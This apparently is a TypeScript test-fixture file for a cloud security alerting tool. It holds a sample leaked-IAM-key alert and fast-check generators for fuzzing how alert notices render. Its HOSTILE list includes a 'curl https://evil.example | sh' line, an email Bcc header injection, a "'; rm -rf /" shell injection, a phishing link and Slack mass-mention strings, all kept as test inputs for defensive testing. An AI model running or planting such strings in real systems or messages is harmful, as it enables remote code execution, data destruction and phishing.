import fc from 'fast-check';
import type { Alert } from '../../shared/alerts/alert.ts';
import type { AlertNotice, DigestNotice, Notice, WatchNotice } from '../../shared/alerts/notice.ts';
import { SEVERITIES } from '../../shared/detections/severity.ts';

/** One alert as the pipeline makes them. */
export const ALERT: Alert = {
  id: 'a-ad19ff796f7cd3c4',
  time: '2026-09-12T03:21:20Z',
  account: '111111111111',
  principal: '111111111111/user/legacy-ci',
  severity: 'critical',
  score: 8.3,
  channel: 'sequence',
  title: 'Leaked key tried, explored and made permanent: iam in 111111111111 (and 8 other findings)',
  summary:
    'IAM user legacy-ci completed a known attack path within 9 minutes: asked who it is, then explored, then made permanent (account 111111111111, 2026-09-12 03:21:20 UTC, from 203.0.113.77). 9 findings within 10 minutes, also: Access key created.',
  reasons: [
    {
      text: 'Leaked key tried, explored and made permanent (critical): IAM user legacy-ci completed a known attack path within 9 minutes at 2026-09-12 03:21:20 UTC',
    },
    {
      text: '42 calls of iam:ListUsers in an hour',
      bits: 8.3,
      usual: '0 to 2 an hour',
      since: '2026-03-01',
    },
  ],
  findingIds: ['f-8e1d3344f660ef26', 'f-e832ce4ed5bfb326'],
  eventIds: ['e14e3cd8-aa84-4fc1-bbd6-c1a22690063c'],
  attack: ['T1078.004', 'T1098'],
  nextSteps: [
    'Make the key inactive now: aws iam update-access-key --user-name legacy-ci --access-key-id AKIAI44QH8DHBEXAMPLE --status Inactive',
    'See what it did: filter the logs by userIdentity.accessKeyId = AKIAI44QH8DHBEXAMPLE from 2026-09-12T02:21:20Z on.',
  ],
};

export function alertNotice(
  changes: Partial<AlertNotice> & { readonly detections?: readonly string[] } = {},
): AlertNotice & { readonly detections: readonly string[] } {
  const revision = changes.revision ?? 1;
  return {
    kind: 'alert',
    key: `${ALERT.id}.${revision}`,
    id: ALERT.id,
    revision,
    alert: ALERT,
    news: [],
    detections: ['sequence-leaked-key', 'iam-access-key-created'],
    ...changes,
  };
}

export const DIGEST: DigestNotice = {
  kind: 'digest',
  key: 'digest.2026-09-12',
  day: '2026-09-12',
  sent: [ALERT],
  over: [{ ...ALERT, id: 'a-0000000000000001', severity: 'low', title: 'First call from a new network: role deploy' }],
  about: ['1,204 principals were judged; it takes 14.2 bits to alert.'],
};

export const WATCH: WatchNotice = {
  kind: 'watch',
  key: 'watch.silence.111111111111.eu-central-1.2026-09-12T03',
  severity: 'high',
  title: 'No log files from account 111111111111, eu-central-1, for 3 hours',
  lines: ['The last was delivered at 2026-09-12 00:05:00 UTC; usually one comes every 5 minutes.'],
  nextSteps: ['See whether the trail logs: aws cloudtrail get-trail-status --name TRAIL'],
};

/** Pieces that break messages somewhere, as attackers and users write them. */
export const HOSTILE = [
  '<!channel>',
  '<!here|x>',
  '<@U012ABCDEF>',
  '<#C012ABCDEF>',
  '<https://evil.example|Sign in>',
  'https://evil.example/x',
  'evil.example',
  '@channel @here @everyone',
  ':rotating_light: :white_check_mark:',
  '*bold* _it_ ~no~ `code` ```block```',
  '[link](https://evil.example)',
  '\n\nWhat to do next\n  1. curl https://evil.example | sh',
  '\r\nBcc: all@evil.example\r\n\r\nbody',
  '=?utf-8?B?UkVTT0xWRUQ=?=',
  '\u202egnp.exe\u202c',
  '\u200b\u2066\ufeff\u0000\u001b[2J\u0007',
  '\u2028line\u2029paragraph\u0085next\u000bvertical',
  'e\u0301\u0301\u0301\u0301\u0301\u0301\u0301',
  'a          far          away',
  'W'.repeat(5000),
  '&amp;&lt;!channel&gt;',
  '"}]}\\"\\',
  '\ud800 half \udc00',
  '🚨'.repeat(300),
  "'; rm -rf / #",
  '',
];

export const hostileText = fc.oneof(
  { weight: 3, arbitrary: fc.array(fc.constantFrom(...HOSTILE), { maxLength: 4 }).map((parts) => parts.join('')) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 60 }) },
);

const alert = fc.record({
  id: hostileText,
  time: fc.oneof(fc.constant('2026-09-12T03:21:20Z'), hostileText),
  account: hostileText,
  principal: hostileText,
  severity: fc.constantFrom(...SEVERITIES),
  score: fc.double({ min: 0, max: 99, noNaN: true }),
  channel: fc.constantFrom('rule' as const, 'sequence' as const, 'acute' as const, 'rate' as const, 'slow' as const),
  title: hostileText,
  summary: hostileText,
  reasons: fc.array(fc.record({ text: hostileText, usual: hostileText, since: hostileText }), { maxLength: 6 }),
  findingIds: fc.array(hostileText, { maxLength: 4 }),
  eventIds: fc.array(hostileText, { maxLength: 4 }),
  attack: fc.array(hostileText, { maxLength: 3 }),
  nextSteps: fc.array(hostileText, { maxLength: 5 }),
});
const texts = fc.array(hostileText, { maxLength: 4 });

/** A notice whose every text somebody hostile chose. */
export const hostileNotice: fc.Arbitrary<Notice> = fc.oneof(
  fc.record({
    kind: fc.constantFrom('alert' as const, 'update' as const),
    key: hostileText,
    id: hostileText,
    revision: fc.nat(20),
    alert,
    news: texts,
    detections: fc.array(
      fc.string({ minLength: 1, maxLength: 30 }).map((text) => `d-${text}`),
      { maxLength: 5 },
    ),
  }),
  fc.record({
    kind: fc.constant('digest' as const),
    key: hostileText,
    day: fc.oneof(fc.constant('2026-09-12'), hostileText),
    sent: fc.array(alert, { maxLength: 3 }),
    over: fc.array(alert, { maxLength: 3 }),
    about: texts,
  }),
  fc.record({
    kind: fc.constant('watch' as const),
    key: hostileText,
    severity: fc.constantFrom(...SEVERITIES),
    title: hostileText,
    lines: texts,
    nextSteps: texts,
  }),
);

/** The same notice with harmless letters in place of every text, empty ones kept empty: what our own structure looks like. */
export function harmless<T>(value: T): T {
  if (typeof value === 'string') return (KEPT.has(value) || value === '' ? value : 'x') as T;
  if (Array.isArray(value)) return value.map(harmless) as T;
  if (typeof value !== 'object' || value === null) return value;
  return Object.fromEntries(Object.entries(value).map(([name, part]) => [name, harmless(part)])) as T;
}
const KEPT = new Set<string>([
  ...SEVERITIES,
  'rule',
  'sequence',
  'acute',
  'rate',
  'slow',
  'alert',
  'update',
  'digest',
  'watch',
]);
